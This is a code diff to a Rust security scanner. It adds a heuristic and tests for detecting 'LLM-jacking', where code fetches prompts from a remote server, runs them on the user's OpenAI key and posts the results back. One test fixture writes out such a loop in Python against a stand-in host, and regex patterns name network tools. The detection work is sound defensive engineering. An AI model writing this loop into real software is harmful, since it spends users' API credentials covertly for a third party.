@@ -100,7 +100,8 @@ pub fn scan(src: &Src, sink: &mut Sink) {
     let uses_llm = LLM_KEY.is_match(text) || urls.iter().any(|u| llm_host(&u.3));
     let jobish = JOBISH.is_match(url)
         || JOBISH.is_match(line_of(text, *start))
-        || constant_paths_jobish(text, line_of(text, *start));
+        || constant_paths_jobish(text, line_of(text, *start))
+        || round_trip(text, line_of(text, *start));
     if forever && uses_llm && jobish && JOB_FIELDS.is_match(text) {
         let ev = Evidence::new(Op::NetSend, A::Transfer, R::Network, *url)
             .tag(Tag::RemoteJobs)
@@ -157,6 +158,41 @@ fn constant_paths_jobish(text: &str, line: &str) -> bool {
             path.starts_with('/') && JOBISH.is_match(path)
         })
 }
+
+/// `HUB = "https://…"`, then `requests.get(f"{HUB}/calibration")` on one
+/// line and `requests.post(f"{HUB}/calibration/{id}", …)` on another: the
+/// constant's server both hands something out and takes the result back,
+/// whatever its paths are called (a structural twin of the job words).
+fn round_trip(text: &str, line: &str) -> bool {
+    let Some(name) = CONST_NAME.captures(line).and_then(|c| c.get(1)) else {
+        return false;
+    };
+    let name = name.as_str();
+    let (mut gets, mut sends) = (false, false);
+    for l in text.lines().filter(|l| *l != line) {
+        let named = l.match_indices(name).any(|(i, _)| {
+            let before = l[..i].chars().next_back();
+            let after = l[i + name.len()..].chars().next();
+            !before.is_some_and(|c| c.is_alphanumeric() || c == '_')
+                && !after.is_some_and(|c| c.is_alphanumeric() || c == '_')
+        });
+        if !named {
+            continue;
+        }
+        sends |= ROUND_SEND.is_match(l);
+        gets |= !ROUND_SEND.is_match(l) && ROUND_GET.is_match(l);
+        if gets && sends {
+            return true;
+        }
+    }
+    false
+}
+
+static ROUND_GET: crate::rx::Lazy =
+    crate::rx::Lazy::new(r"\.get\(|fetch\(|urlopen\(|https?\.get\(|Invoke-RestMethod|curl");
+static ROUND_SEND: crate::rx::Lazy = crate::rx::Lazy::new(
+    r#"(?i)\.(post|put|patch)\(|method\s*[:=]\s*["'](POST|PUT|PATCH)|-X\s*(POST|PUT)|-Method\s+(Post|Put)"#,
+);
 
 static CONST_NAME: crate::rx::Lazy = crate::rx::Lazy::new(
     r"^\s*(?:export\s+)?(?:const\s+|let\s+|var\s+)?([A-Za-z_]\w*)\s*(?::[^=]*)?=",
@@ -557,6 +593,23 @@ mod tests {
         // prompt is its own, the server hands out no jobs.
         let bot = "key = os.environ['OPENAI_API_KEY']\nwhile True:\n    u = get('https://api.telegram.org/bot' + T + '/getUpdates')\n    r = post('https://api.openai.com/v1/chat/completions', {'messages': [{'role': 'user', 'content': u}]})\n    time.sleep(2)\n";
         assert!(run("b.py", bot).is_empty());
+    }
+
+    #[test]
+    fn a_server_that_hands_out_prompts_and_takes_completions_back_is_jobs() {
+        // No job word anywhere: `calibration` prompts fetched from the
+        // constant's server, run on the user's key, posted back there.
+        let hub = "HUB = 'https://graderhub.example/api/v2'\nkey = os.environ['OPENAI_API_KEY']\nwhile True:\n    items = requests.get(f'{HUB}/calibration').json()\n    for j in items:\n        out = requests.post('https://api.openai.com/v1/chat/completions', json={'messages': [{'role': 'user', 'content': j['prompt']}]}).json()\n        requests.post(f'{HUB}/calibration/{j[\"id\"]}', json={'out': out})\n";
+        let e = run("h.py", hub);
+        assert!(e.iter().any(|e| e.object.contains("LLM-jacking")), "{e:?}");
+        // The same server only read (a status poll beside a chat model):
+        // nothing handed back, no jobs.
+        let poll = "HUB = 'https://graderhub.example/api/v2'\nkey = os.environ['OPENAI_API_KEY']\nwhile True:\n    s = requests.get(f'{HUB}/status').json()\n    out = requests.post('https://api.openai.com/v1/chat/completions', json={'messages': [{'role': 'user', 'content': s['prompt']}]})\n    print(out)\n";
+        assert!(
+            run("p.py", poll)
+                .iter()
+                .all(|e| !e.object.contains("LLM-jacking"))
+        );
     }
 
     #[test]
